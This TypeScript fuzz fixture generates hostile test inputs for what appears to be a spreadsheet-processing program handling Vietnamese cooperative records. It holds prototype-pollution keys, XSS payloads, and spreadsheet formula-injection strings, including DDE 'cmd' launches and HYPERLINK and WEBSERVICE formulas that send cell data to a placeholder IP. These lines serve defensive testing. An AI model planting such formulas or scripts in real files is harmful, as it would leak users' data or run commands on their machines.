/** Texts that have broken programs before, made from a seed. */
import type { Random } from "../fixtures/books/random.ts";

/** Words that a program may take for a key of its own. */
export const trapKeys = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "length",
  "then",
  "toJSON",
] as const;

/** Texts that a spreadsheet would run as a formula. */
const formulaTexts = [
  "=1+1",
  "+84 912 345 678",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=cmd",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"Xem")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://192.0.2.1")',
  " =1+1",
  "＝1+1",
  "－1",
  "＠A1",
] as const;

/** Texts that a page or a document would take for markup. */
const markupTexts = [
  "<script>alert(1)</script>",
  '<img src=x onerror="document.title=1">',
  '"><svg/onload=alert(1)>',
  "]]><x/>",
  "<!-- ",
  "--><b>",
  "&lt;&amp;&#0;&#x1F600;&nbsp;&bogus;",
  "<w:p><w:r/></w:p>",
  "{{name}} {{noi_dung}} %s %n",
  "_x0041__x000D__x005F_x0041_",
  "javascript:alert(1)",
] as const;

/** Signs that are not letters, seldom seen, or half of one. */
const oddSigns = [
  "\u0000",
  "\u0001",
  "\u0008",
  "\u000b",
  "\u001f",
  "\u007f",
  "\u0085",
  "\u00a0",
  "\u00ad",
  "\u061c",
  "\u180e",
  "\u200b",
  "\u200e",
  "\u200f",
  "\u2028",
  "\u2029",
  "\u202e",
  "\u2066",
  "\u3000",
  "\ufeff",
  "\ufffe",
  "\uffff",
  "\ud800",
  "\udc00",
  "😀",
  "e\u0301\u0302\u0303",
  "ﬁ",
  "İ",
  "ß",
  "٣",
  "\u0335",
] as const;

/** What cells of such books hold. */
const plainTexts = [
  "Hợp tác xã nông nghiệp Hoa Sen",
  "HTX Mai Vàng",
  "Liên hiệp HTX Đông Mai",
  "Tổ hợp tác nuôi cá",
  "0100109106",
  "001085012345",
  "0912345678",
  "12/05/2019",
  "31/02/2020",
  "2019",
  "5/2019",
  "21.096,4",
  "1.234.567",
  "36,508",
  "2 tỷ 300 triệu",
  "(1.500)",
  "-",
  "80%",
  "x",
  "Tốt",
  "Đang hoạt động",
  "Giải thể ngày 12/3/2021",
  "Xã Phú Hòa",
  "Nam",
  "Tổng cộng",
  "Người lập biểu",
  "STT",
  "Tên HTX",
  "Mã số",
  "Doanh thu (triệu đồng)",
  "Lao động",
  "Xếp loại",
  "Ngày cấp",
  "Thành viên",
  "đến năm 2025 có ít nhất 80% hợp tác xã xếp loại tốt, khá",
] as const;

const runUnits = [
  " ",
  "0",
  "9",
  "a",
  "A",
  "(",
  ")",
  "[",
  "/",
  "-",
  ".",
  ",",
  "1.",
  "1,",
  " 1",
  "a ",
  "đ",
  "\u00a0",
  "\n",
  "\t",
  "; ",
  "“",
  "HTX ",
  "<",
  "&",
  "{{",
  "e\u0301",
] as const;

/** A text of at most `most` UTF-16 units: plain, hostile, or both put together. */
export function hostileText(random: Random, most = 400): string {
  const text = oneText(random, most);
  return text.length <= most ? text : text.slice(0, most);
}

/** A long run of one unit, with something else at its ends: what makes a pattern try again and again. */
export function longRun(random: Random, length: number): string {
  const unit = random.pick(runUnits);
  const ends = ["", "x", "1", " ", "!", ":", "đồng", "%"] as const;
  return random.pick(ends) + unit.repeat(Math.ceil(length / unit.length)).slice(0, length) + random.pick(ends);
}

function oneText(random: Random, most: number): string {
  switch (random.whole(0, 9)) {
    case 0:
      return random.pick(trapKeys);
    case 1:
      return random.pick(formulaTexts);
    case 2:
      return random.pick(markupTexts);
    case 3:
      return random.pick(oddSigns).repeat(random.whole(1, 3));
    case 4:
      return spliced(random, random.pick(plainTexts), random.pick(oddSigns));
    case 5:
      return spliced(random, random.pick(plainTexts), random.pick(random.chance(0.5) ? markupTexts : formulaTexts));
    case 6:
      return longRun(random, random.whole(1, Math.max(1, most - 10)));
    case 7:
      return Array.from({ length: random.whole(0, 12) }, () =>
        String.fromCharCode(random.whole(0, random.chance(0.7) ? 255 : 65_535)),
      ).join("");
    default:
      return random.pick(plainTexts);
  }
}

function spliced(random: Random, text: string, piece: string): string {
  const at = random.whole(0, text.length);
  return text.slice(0, at) + piece + text.slice(at);
}

/** A number that arithmetic or a format may trip over. */
export function hostileNumber(random: Random): number {
  const odd = [
    0,
    -0,
    1,
    -1,
    0.1,
    1e-9,
    1e15,
    1e16,
    1e21,
    1e308,
    -1e308,
    5e-324,
    2 ** 31,
    2 ** 53,
    2_958_466,
    60,
    43_831,
    1.5,
    Number.NaN,
    Number.POSITIVE_INFINITY,
  ];
  return random.chance(0.5) ? random.pick(odd) : random.whole(-1000, 3_000_000_000);
}
